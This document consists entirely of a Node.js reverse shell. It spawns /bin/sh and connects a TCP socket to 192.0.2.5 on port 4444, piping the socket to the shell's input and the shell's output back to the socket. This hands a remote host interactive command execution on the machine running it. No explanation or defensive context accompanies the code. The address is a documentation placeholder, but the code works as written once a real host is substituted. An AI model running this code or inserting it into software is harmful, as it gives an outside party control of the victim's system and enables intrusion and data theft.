const net = require("net");
const cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "192.0.2.5", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });
